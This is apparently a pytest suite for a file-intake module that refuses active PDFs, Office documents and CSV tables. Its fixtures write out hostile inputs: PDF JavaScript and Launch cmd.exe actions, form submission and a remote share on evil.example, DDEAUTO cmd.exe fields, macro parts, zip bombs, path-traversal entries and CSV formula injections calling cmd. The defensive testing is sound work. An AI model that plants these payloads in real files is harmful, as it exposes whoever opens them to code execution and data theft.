"""Papers (文书): a PDF, a sheet, a document or a table that would act, reach out or unfold is refused by name."""

import io
import random
import struct
import time
import zipfile
import zlib

import pytest
from PIL import Image
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from jiedao.kit import media
from tests.media_files import document, look, office, pdf, sheet, types, why


def test_a_plain_pdf_is_kept_as_it_came(tmp_path):
    came = pdf(lambda writer: writer.add_uri(0, "https://www.gov.cn/", (0, 0, 9, 9)))

    verdict = look(tmp_path, came, "通知.pdf")

    assert (verdict.kind, verdict.mime, verdict.name, verdict.pages) == ("pdf", "application/pdf", "通知.pdf", 1)
    assert verdict.kept.read_bytes() == came
    with Image.open(verdict.thumb) as drawn:
        assert (drawn.format, drawn.size) == ("JPEG", (320, 320))


def boxed(width, height):
    """A PDF whose page says it is so large."""
    return pdf(lambda writer: writer.pages[0].update({NameObject("/MediaBox"): box(width, height)}))


def box(width, height):
    return ArrayObject([NumberObject(0), NumberObject(0), FloatObject(width), FloatObject(height)])


@pytest.mark.parametrize(("width", "height"), [(4e7, 3e7), (2e9, 1), (1, 2e9), (0, 0), (-300, 400), (1e-9, 1e-9)])
def test_a_page_of_any_size_is_drawn_small_or_not_at_all(tmp_path, width, height):
    verdict = look(tmp_path, boxed(width, height))

    assert verdict.kind == "pdf"
    if verdict.thumb:
        with Image.open(verdict.thumb) as drawn:
            assert max(drawn.size) <= 320


def painted(strokes):
    """A PDF that paints so many lines over one another before its page is whole."""

    def change(writer):
        stream = StreamObject()
        stream.set_data(b"q 0.5 w " + b"0 0 m 200 200 l 0 200 m 200 0 l S " * strokes + b"Q")
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream.flate_encode(9))

    return pdf(change)


def test_what_a_page_shows_stands_on_its_thumbnail(tmp_path):
    with Image.open(look(tmp_path, painted(1)).thumb) as drawn:
        assert drawn.convert("L").getextrema()[0] < 200


@pytest.mark.nightly
def test_a_page_that_takes_too_long_to_draw_costs_its_thumbnail_and_not_the_paper(tmp_path):
    began = time.monotonic()

    verdict = look(tmp_path, painted(3_000_000))

    assert (verdict.kind, verdict.thumb) == ("pdf", None)
    assert time.monotonic() - began < 5


def test_a_child_that_dies_while_it_draws_has_said_what_the_paper_is(tmp_path, monkeypatch):
    dies = "m.first_page = lambda *told: os.kill(os.getpid(), 9); main()"
    monkeypatch.setattr(
        media, "_CHILD", media._CHILD.replace("main()", f"import os, jiedao.kit.media_drawing as m; {dies}")
    )

    verdict = look(tmp_path, pdf())

    assert (verdict.kind, verdict.thumb) == ("pdf", None)


def acting(**action):
    """A change that makes the file act when it is opened."""
    told = {
        NameObject(f"/{key}"): NameObject(value) if value.startswith("/") else TextStringObject(value)
        for key, value in action.items()
    }
    return lambda writer: writer._root_object.update({NameObject("/OpenAction"): DictionaryObject(told)})


def named(kind):
    """A change that hangs something on the catalogue's names."""
    told = DictionaryObject({NameObject(kind): DictionaryObject()})
    return lambda writer: writer._root_object.update({NameObject("/Names"): told})


def annotated(kind):
    told = {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(kind)}
    told[NameObject("/Rect")] = ArrayObject(NumberObject(0) for _ in range(4))
    return lambda writer: writer.pages[0].update(
        {NameObject("/Annots"): ArrayObject([writer._add_object(DictionaryObject(told))])}
    )


@pytest.mark.parametrize(
    "change",
    [
        named("/JavaScript"),
        named("/EmbeddedFiles"),
        lambda writer: writer.add_attachment("evil.exe", b"MZ"),
        acting(S="/JavaScript", JS="app.alert(1)"),
        acting(S="/Launch", F="cmd.exe"),
        acting(S="/SubmitForm", F="http://evil.example/"),
        acting(S="/ImportData", F="x"),
        acting(S="/GoToR", F="\\\\evil.example\\share"),
        acting(S="/GoToE", T="x"),
        acting(S="/Rendition", JS="x"),
        annotated("/RichMedia"),
        annotated("/FileAttachment"),
        annotated("/Screen"),
        annotated("/Movie"),
    ],
)
def test_a_pdf_that_would_act_is_refused(tmp_path, change):
    assert why(tmp_path, pdf(change), "通知.pdf") == "active"


def test_a_pdf_that_spells_its_script_otherwise_is_refused(tmp_path):
    came = (
        pdf(acting(S="/JavaScript", JS="app.alert(1)"))
        .replace(b"/JavaScript", b"/J#61vaScript")
        .replace(b"/JS", b"/#4aS")
    )

    assert why(tmp_path, came) == "active"


def test_a_script_inside_a_packed_stream_of_objects_is_found(tmp_path):
    inner = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
    packed = zlib.compress(b"1 0 " + inner)
    came, places = b"%PDF-1.7\n", {}
    for number, body in (
        (2, b"<</Type/Pages/Kids[3 0 R]/Count 1>>"),
        (3, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"),
        (4, b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)),
    ):
        places[number] = len(came)
        came += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = b"\0\0\0\0\0\0" + b"\2\0\0\0\4\0"
    for number in (2, 3, 4):
        rows += b"\1" + struct.pack(">I", places[number]) + b"\0"
    rows += b"\1" + struct.pack(">I", len(came)) + b"\0"
    table = zlib.compress(rows)
    start = len(came)
    came += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(table)
    came += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    assert b"JavaScript" not in came

    assert why(tmp_path, came) == "active"


def test_a_pdf_under_a_password_is_refused(tmp_path):
    assert why(tmp_path, pdf(lambda writer: writer.encrypt("word"))) == "encrypted"
    assert why(tmp_path, pdf(lambda writer: writer.encrypt("", "owner"))) == "encrypted"


@pytest.mark.parametrize(
    ("spoil", "expected"),
    [
        (lambda came: came[: len(came) // 2], {"broken"}),
        (lambda came: came[:9], {"broken"}),
        (lambda came: came + bytes(5000), {"active"}),
        (lambda came: came + office({"a": b"b"}), {"active"}),
        (lambda came: came.replace(b"\n", b"\n<html><script>alert(1)</script>\n", 1), {"active"}),
        (lambda came: b"%PDF-1.4\n%%EOF", {"broken"}),
    ],
)
def test_a_pdf_that_is_cut_or_more_than_a_pdf_is_refused(tmp_path, spoil, expected):
    assert why(tmp_path, spoil(pdf())) in expected


def test_a_pdf_that_unfolds_without_end_is_given_up(tmp_path):
    huge = zlib.compress(bytes(600_000_000), 1)
    came = b"%%PDF-1.7\n1 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(huge)
    came += huge + b"\nendstream\nendobj\n"
    rows = b"\2\0\0\0\1\0" * 3
    start = len(came)
    came += b"2 0 obj\n<</Type/XRef/Size 3/W[1 4 1]/Root 0 0 R/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        len(rows),
        rows,
    )
    came += b"startxref\n%d\n%%%%EOF\n" % start
    began = time.monotonic()

    assert why(tmp_path, came) in {"too_heavy", "broken"}
    assert time.monotonic() - began < 5


@pytest.mark.parametrize(("make", "kind", "name"), [(sheet, "sheet", "清单.xlsx"), (document, "document", "清单.docx")])
def test_a_plain_office_file_is_kept_as_it_came(tmp_path, make, kind, name):
    came = make()

    verdict = look(tmp_path, came, "清单.pdf")

    assert (verdict.kind, verdict.name) == (kind, name)
    assert verdict.kept.read_bytes() == came


def relation(kind, target="http://evil.example/x"):
    told = f'Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"'
    return f"<Relationships><Relationship {told}/></Relationships>"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (document("<w:document/>", "application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
        (document(**{"word/vbaProject.bin": b"x"}), "macros"),
        (sheet(**{"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
        (sheet(**{"xl/activeX/activeX1.bin": b"x"}), "macros"),
        (document(**{"word/embeddings/oleObject1.bin": b"x"}), "active"),
        (sheet(**{"xl/externalLinks/externalLink1.xml": "<a/>"}), "active"),
        (document(**{"word/_rels/settings.xml.rels": relation("attachedTemplate")}), "external"),
        (document(**{"word/_rels/document.xml.rels": relation("image")}), "external"),
        (document("<!DOCTYPE a [<!ENTITY b 'c'>]><a/>"), "active"),
        (document("<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"), "active"),
        (document("<a/>".encode("utf-16")), "active"),
        (sheet("<row/>" * 50_001), "rows"),
        (sheet('<row><c r="GS1"/></row>'), "columns"),
        (sheet('<row><c s="1" r="XFD1"/></row>'), "columns"),
        (office({"a.txt": b"x"}), "kind"),
        (office({"[Content_Types].xml": types("application/vnd.ms-powerpoint.main+xml")}), "kind"),
        (office({f"{number}": b"" for number in range(1001)}), "bomb"),
        (document(**{"word/../../evil": b"x"}), "broken"),
        (document(**{"/evil": b"x"}), "broken"),
        (document(**{"WORD/DOCUMENT.XML": b"x"}), "broken"),
        (b"PK\x03\x04" + b"junk" * 20 + document(), "broken"),
        (document() + b"junk", "broken"),
        (document()[:-40], "broken"),
    ],
)
def test_an_office_file_that_would_act_reach_out_or_hide_something_is_refused(tmp_path, content, expected):
    assert why(tmp_path, content, "清单.docx") == expected


def test_a_link_to_click_may_lead_outside(tmp_path):
    came = document(**{"word/_rels/document.xml.rels": relation("hyperlink")})

    assert look(tmp_path, came).kind == "document"


def test_a_sheet_at_its_limits_passes_and_one_row_more_does_not(tmp_path):
    numbers = [random.Random(number).randbytes(8).hex() for number in range(49_999)]
    body = "".join(f'<row r="1"><c r="A1"><v>{number}</v></c></row>' for number in numbers)
    full = body + '<row><c r="GR1"/></row>'

    assert look(tmp_path, sheet(f"<sheetData>{full}</sheetData>")).kind == "sheet"
    (tmp_path / "kept").unlink()
    assert why(tmp_path, sheet(f"<sheetData>{full}<row/></sheetData>")) == "rows"


@pytest.mark.parametrize("size", [30_000_000, pytest.param(250_000_000, marks=pytest.mark.nightly)])
def test_a_sheet_that_unfolds_is_refused_within_a_second(tmp_path, size):
    content = sheet(**{"xl/sharedStrings.xml": b" " * size})
    began = time.monotonic()

    assert why(tmp_path, content) == "bomb"
    assert time.monotonic() - began < 1.5


def test_a_sheet_that_lies_about_what_it_unfolds_to_is_refused(tmp_path):
    content = bytearray(sheet(**{"xl/media/image1.bin": bytes(30_000_000)}))
    small = struct.pack("<I", 30_000_000)
    lied = bytes(content).replace(small, struct.pack("<I", 3000))

    assert why(tmp_path, lied) in {"bomb", "broken"}


def test_entries_that_lie_over_one_another_are_refused(tmp_path):
    came = document(**{"word/a.bin": random.Random(7).randbytes(3000), "word/b.bin": random.Random(7).randbytes(3000)})
    with zipfile.ZipFile(io.BytesIO(came)) as archive:
        first, second = (archive.getinfo(name).header_offset for name in ("word/a.bin", "word/b.bin"))
    directory = came.rfind(b"PK\1\2")
    overlapping = came[:directory] + came[directory:].replace(struct.pack("<I", second), struct.pack("<I", first))

    assert why(tmp_path, overlapping) in {"bomb", "broken"}


def test_an_office_file_under_a_password_is_refused(tmp_path):
    came = bytearray(document())
    came[came.rfind(b"PK\1\2") + 8] |= 1

    assert why(tmp_path, bytes(came)) == "encrypted"


@pytest.mark.parametrize("code", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_table_is_read_in_both_codes(tmp_path, code):
    came = '编号,内容,电话\n24-00912,"路灯坏了,三盏\n在路口",+86 138\n="007",-5,=====\n'.encode(code)

    verdict = look(tmp_path, came, "清单.txt")

    assert (verdict.kind, verdict.name) == ("table", "清单.csv")
    assert verdict.kept.read_bytes() == came


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a,=1+1\n", "active"),
        ("a,=cmd|' /C calc'!A0\n", "active"),
        ("a,@SUM(1)\n", "active"),
        ("a,+cmd|' /C calc'!A0\n", "active"),
        ('a,"  =HYPERLINK(""http://evil"")"\n', "active"),
        ("a\0b,c\n", "kind"),
        ("a\x1b[2J,c\n", "kind"),
        (",".join("a" * 201) + "\n", "columns"),
        (" \n\n", "empty"),
    ],
)
def test_a_table_that_computes_or_hides_controls_is_refused(tmp_path, text, expected):
    assert why(tmp_path, text.encode(), "清单.csv") == expected
